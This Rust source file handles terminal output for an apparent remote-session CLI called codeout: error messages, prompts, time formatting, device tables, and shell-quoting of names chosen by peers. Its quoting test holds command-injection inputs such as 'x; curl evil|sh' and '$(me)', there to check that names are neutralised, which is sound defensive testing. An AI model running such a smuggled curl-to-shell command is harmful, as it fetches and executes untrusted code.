//! Every word that is printed passes through here.
//!
//! The law: what was asked for goes to standard output, everything else to standard error.
//! Errors begin with `codeout: `, hints with two spaces; both are lower-case sentences without
//! a full stop. Colours only where there is a terminal that wants them. Text of a peer has been
//! cleaned before it comes here.

use std::fmt::Display;
use std::io::{self, ErrorKind, IsTerminal, StdoutLock, Write};
use std::sync::OnceLock;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::SystemTime;

use anstyle::{AnsiColor, Style};
use codeout_daemon::OfferLimits;
use codeout_protocol::message::{DeviceEntry, ExitStatus, Limits};
use codeout_protocol::name::clean_text;
use unicode_width::UnicodeWidthStr;
use zeroize::Zeroizing;

use crate::failure::{Code, Failure};

pub(crate) const BOLD: Style = Style::new().bold();
pub(crate) const DIM: Style = Style::new().dimmed();
pub(crate) const RED: Style = AnsiColor::Red.on_default().bold();
pub(crate) const GREEN: Style = AnsiColor::Green.on_default();
pub(crate) const YELLOW: Style = AnsiColor::Yellow.on_default();

/// Brings the cursor to the beginning of its line, and empties that.
pub(crate) const ERASE_LINE: &str = "\r\x1b[K";

/// Whether the cursor stands behind a line of the terminal that is still to change.
static LIVING: AtomicBool = AtomicBool::new(false);

/// Notes whether the terminal's last line is one that is still to change.
pub(crate) fn set_living(is_living: bool) {
    LIVING.store(is_living, Ordering::Relaxed);
}

/// Whether it is.
pub(crate) fn is_living() -> bool {
    LIVING.load(Ordering::Relaxed)
}

/// Standard error at the beginning of a line: what is still to change makes room, and is drawn anew
/// below.
pub(crate) struct LineStart {
    stderr: io::Stderr,
    // Nothing is drawn as long as this is here.
    _turn: Option<StdoutLock<'static>>,
}

/// Waits while another thread draws. A panic in the middle of a drawing does not wait: its thread has
/// the lock.
pub(crate) fn stderr() -> LineStart {
    let (stdout, stderr) = (io::stdout(), io::stderr());
    let turn = (stdout.is_terminal() && stderr.is_terminal()).then(|| stdout.lock());
    if turn.is_some() && LIVING.swap(false, Ordering::Relaxed) {
        let _ = stderr.lock().write_all(ERASE_LINE.as_bytes());
    }
    LineStart { stderr, _turn: turn }
}

impl Write for LineStart {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.stderr.write(bytes)
    }

    fn write_all(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.stderr.write_all(bytes)
    }

    fn flush(&mut self) -> io::Result<()> {
        self.stderr.flush()
    }
}

/// Why standard output could not be written, the first time.
static UNWRITTEN: OnceLock<io::Error> = OnceLock::new();

/// Prints a line to standard output. Whoever reads it may have gone away.
pub(crate) fn say(line: impl Display) {
    spoken(writeln!(anstream::stdout(), "{line}"));
}

/// Prints a whole file to standard output, as it is.
pub(crate) fn say_file(text: &[u8]) {
    let mut stdout = io::stdout();
    spoken(stdout.write_all(text).and_then(|()| stdout.flush()));
}

/// Remembers why standard output could not be written. A reader that went away has read enough.
pub(crate) fn spoken(result: io::Result<()>) {
    if let Err(error) = result
        && error.kind() != ErrorKind::BrokenPipe
    {
        let _ = UNWRITTEN.set(error);
    }
}

/// Whether all that was asked for could be printed.
///
/// # Errors
/// A part of it could not.
pub(crate) fn all_said() -> Result<(), Failure> {
    match UNWRITTEN.get() {
        None => Ok(()),
        Some(error) => {
            Err(Failure::new(Code::Other, format!("cannot write to standard output: {error}")))
        }
    }
}

/// Prints a line to standard error.
pub(crate) fn note(line: impl Display) {
    let _start = stderr();
    let _ = writeln!(anstream::stderr(), "{line}");
}

/// Prints a value as one line of JSON.
pub(crate) fn say_json(value: &impl serde::Serialize) {
    match serde_json::to_string(value) {
        Ok(json) => say(json),
        Err(error) => note(format!("codeout: {error}")),
    }
}

/// Prints why a command failed, and what to do next.
pub(crate) fn report(failure: &Failure) {
    note(format!("{RED}codeout:{RED:#} {}", failure.error));
    if let Some(hint) = &failure.hint {
        for line in hint.lines() {
            note(format!("  {line}"));
        }
    }
}

/// Asks a question on the terminal that standard input and error are; `None` when they are none,
/// or the answer ends without a line.
pub(crate) fn ask(question: &str) -> Option<Zeroizing<String>> {
    if !can_ask() {
        return None;
    }
    let mut stderr = anstream::stderr();
    let _ = write!(stderr, "{question} ");
    let _ = stderr.flush();
    // It may be a pairing code.
    let mut answer = Zeroizing::new(String::new());
    match std::io::stdin().read_line(&mut answer) {
        Ok(0) | Err(_) => {
            // The question stands in the line still: no key has ended it.
            let _ = writeln!(stderr);
            None
        }
        Ok(_) => Some(Zeroizing::new(answer.trim().to_owned())),
    }
}

/// Whether somebody is there to answer.
pub(crate) fn can_ask() -> bool {
    std::io::stdin().is_terminal() && std::io::stderr().is_terminal()
}

/// Asks for yes or no; anything that is neither is asked again.
pub(crate) fn ask_yes_no(question: &str) -> Option<bool> {
    loop {
        match ask(question)?.to_ascii_lowercase().as_str() {
            "y" | "yes" => return Some(true),
            "n" | "no" => return Some(false),
            _ => note("  please answer y or n"),
        }
    }
}

const UNITS: [(u64, &str); 4] = [(86_400, "d"), (3_600, "h"), (60, "m"), (1, "s")];

/// How long ago, in one unit: `40s`, `6h`, `2d`.
pub(crate) fn age(seconds: u64) -> String {
    let (unit, letter) = UNITS.into_iter().find(|(unit, _)| seconds >= *unit).unwrap_or((1, "s"));
    format!("{}{letter}", seconds / unit)
}

/// A length of time that somebody chose, to the second: `2h`, `1d 12h`.
fn length(seconds: u64) -> String {
    let mut left = seconds;
    let mut parts = Vec::new();
    for (unit, letter) in UNITS {
        let count = left / unit;
        left %= unit;
        if count > 0 {
            parts.push(format!("{count}{letter}"));
        }
    }
    parts.join(" ")
}

/// What a device that is paired by an offer will be limited to, if anything: `watch only, for 2h`.
pub(crate) fn offer_limits(limits: OfferLimits) -> Option<String> {
    let watching = limits.watch_only.then(|| "watch only".to_owned());
    let time = limits.for_seconds.map(|seconds| format!("for {}", length(seconds)));
    let words: Vec<_> = watching.into_iter().chain(time).collect();
    (!words.is_empty()).then(|| words.join(", "))
}

/// How a program ended, behind `ended`.
pub(crate) fn ending(status: ExitStatus) -> String {
    match status {
        ExitStatus::Exit(status) => format!("with status {status}"),
        ExitStatus::Signal(signal) => format!("by signal {signal}"),
    }
}

/// Seconds since 1970.
pub(crate) fn now() -> u64 {
    let now = SystemTime::now().duration_since(SystemTime::UNIX_EPOCH);
    now.map_or(0, |since| since.as_secs())
}

/// A countdown: `5:00`.
pub(crate) fn countdown(seconds: u64) -> String {
    format!("{}:{:02}", seconds / 60, seconds % 60)
}

/// A name as one word of a command that is suggested: names are chosen by others.
pub(crate) fn quoted(name: &str) -> String {
    let plain = |b: u8| b.is_ascii_alphanumeric() || b"._-".contains(&b);
    if name.bytes().all(plain) && !name.is_empty() && !name.starts_with('-') {
        return name.to_owned();
    }
    let dashes = if name.starts_with('-') { "-- " } else { "" };
    format!("{dashes}'{}'", name.replace('\'', "'\\''"))
}

/// A command about a session, to be typed: by the daemon that was named, if one was.
pub(crate) fn suggested(command: &str, on: Option<&str>, session: Option<&str>) -> String {
    let on = on.map_or_else(String::new, |on| format!(" --on {}", quoted(on)));
    let session = session.map_or_else(String::new, |name| format!(" {}", quoted(name)));
    format!("`codeout {command}{on}{session}`")
}

/// Text of a peer, safe to print.
pub(crate) fn clean(text: &str) -> String {
    clean_text(text, 256)
}

/// The allow-list as a table of lines, `now` in seconds since 1970.
pub(crate) fn device_table(devices: &[DeviceEntry], long: bool, now: u64) -> Vec<String> {
    table(&devices.iter().map(|device| row(device, long, now)).collect::<Vec<_>>())
}

/// Rows of as many cells each, in aligned columns.
pub(crate) fn table(rows: &[Vec<String>]) -> Vec<String> {
    let columns = rows.first().map_or(0, Vec::len);
    let widths: Vec<usize> = (0..columns)
        .map(|column| rows.iter().map(|row| row[column].width()).max().unwrap_or(0))
        .collect();
    let line = |row: &Vec<String>| {
        let mut line = String::new();
        for (column, cell) in row.iter().enumerate() {
            line.push_str(cell);
            if column + 1 < columns {
                let gap = if column == 0 { 3 } else { 4 };
                line.push_str(&" ".repeat(widths[column] - cell.width() + gap));
            }
        }
        line.trim_end().to_owned()
    };
    rows.iter().map(line).collect()
}

fn row(device: &DeviceEntry, long: bool, now: u64) -> Vec<String> {
    let paired = format!("paired {} ago", age(now.saturating_sub(device.paired_at)));
    let mut row = vec![clean(&device.name)];
    if long {
        row.push(clean(&device.id));
    }
    row.push(paired);
    row.push(state(device, now).to_owned());
    if long {
        row.push(match (device.connected, device.last_seen) {
            (true, _) => "connected".to_owned(),
            (false, Some(at)) => format!("seen {} ago", age(now.saturating_sub(at))),
            (false, None) => "never seen".to_owned(),
        });
    }
    row.push(limits(device, now, long));
    row
}

/// The word for how a device's pairing is.
pub(crate) fn state(device: &DeviceEntry, now: u64) -> &'static str {
    if device.limits.expired(now) {
        "expired"
    } else if device.unfinished {
        "pairing"
    } else {
        "active"
    }
}

fn limits(device: &DeviceEntry, now: u64, long: bool) -> String {
    let mut words = limit_words(device.limits, now);
    if device.this && long {
        words.push("this device".to_owned());
    }
    words.join(", ")
}

/// What a device is limited to, each in words: `watch only`, `2h left`.
pub(crate) fn limit_words(limits: Limits, now: u64) -> Vec<String> {
    let watching = limits.watch_only.then(|| "watch only".to_owned());
    let left = limits.expires_at.filter(|at| *at > now).map(|at| format!("{} left", age(at - now)));
    watching.into_iter().chain(left).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn device(name: &str, ago: u64) -> DeviceEntry {
        DeviceEntry {
            id: "k3f9a2c1".to_owned(),
            name: name.to_owned(),
            paired_at: 1_000_000 - ago,
            last_seen: None,
            connected: false,
            unfinished: false,
            limits: Limits::default(),
            this: false,
        }
    }

    #[test]
    fn the_list_is_the_one_on_the_page() {
        let devices = [device("phone-15", 2 * 86_400), device("work-laptop", 6 * 3_600 + 59)];
        assert_eq!(
            device_table(&devices, false, 1_000_000),
            ["phone-15      paired 2d ago    active", "work-laptop   paired 6h ago    active",]
        );
    }

    #[test]
    fn wide_names_keep_the_columns() {
        let devices = [device("東京", 1), device("phone", 1)];
        assert_eq!(
            device_table(&devices, false, 1_000_000),
            ["東京    paired 1s ago    active", "phone   paired 1s ago    active"]
        );
    }

    #[test]
    fn limits_and_states_are_told() {
        let mut guest = device("guest", 60);
        guest.limits = Limits { watch_only: true, expires_at: Some(1_007_200) };
        assert_eq!(
            device_table(&[guest.clone()], false, 1_000_000),
            ["guest   paired 1m ago    active    watch only, 2h left"]
        );
        assert_eq!(
            device_table(&[guest], false, 1_007_200),
            ["guest   paired 2h ago    expired    watch only"]
        );
    }

    #[test]
    fn what_an_offer_is_limited_to_is_told_to_the_second() {
        for (watch_only, for_seconds, told) in [
            (false, None, None),
            (true, None, Some("watch only")),
            (false, Some(1), Some("for 1s")),
            (false, Some(5_400), Some("for 1h 30m")),
            (true, Some(129_661), Some("watch only, for 1d 12h 1m 1s")),
        ] {
            let limits = OfferLimits { watch_only, for_seconds };
            assert_eq!(offer_limits(limits).as_deref(), told);
        }
    }

    #[test]
    fn a_name_is_one_harmless_word_of_a_suggested_command() {
        for (name, word) in [
            ("desk-2", "desk-2"),
            ("old laptop", "'old laptop'"),
            ("x; curl evil|sh", "'x; curl evil|sh'"),
            ("it's $(me)", "'it'\\''s $(me)'"),
            ("-l", "-- '-l'"),
        ] {
            assert_eq!(quoted(name), word);
        }
    }

    #[test]
    fn what_is_suggested_is_about_the_same_daemon() {
        assert_eq!(suggested("end", None, Some("my web")), "`codeout end 'my web'`");
        assert_eq!(suggested("end", Some("desk"), Some("-x")), "`codeout end --on desk -- '-x'`");
        assert_eq!(suggested("open", Some("my desk"), None), "`codeout open --on 'my desk'`");
    }

    #[test]
    fn times_are_in_one_unit() {
        for (seconds, text) in [(0, "0s"), (59, "59s"), (60, "1m"), (7_199, "1h"), (86_400, "1d")] {
            assert_eq!(age(seconds), text);
        }
        assert_eq!(countdown(300), "5:00");
        assert_eq!(countdown(61), "1:01");
    }
}
